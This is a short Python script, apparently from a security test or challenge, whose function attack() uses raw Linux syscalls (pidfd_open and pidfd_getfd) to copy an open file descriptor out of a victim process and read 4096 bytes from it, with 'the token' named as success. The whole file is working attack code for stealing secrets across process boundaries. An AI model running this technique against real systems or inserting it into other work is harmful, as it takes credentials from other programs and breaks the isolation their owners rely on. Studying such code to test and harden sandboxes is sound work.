"""Take a descriptor out of another process. Success: the token."""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    other = libc.syscall(434, VICTIM, 0)
    return os.pread(libc.syscall(438, other, DESCRIPTOR, 0), 4096, 0)
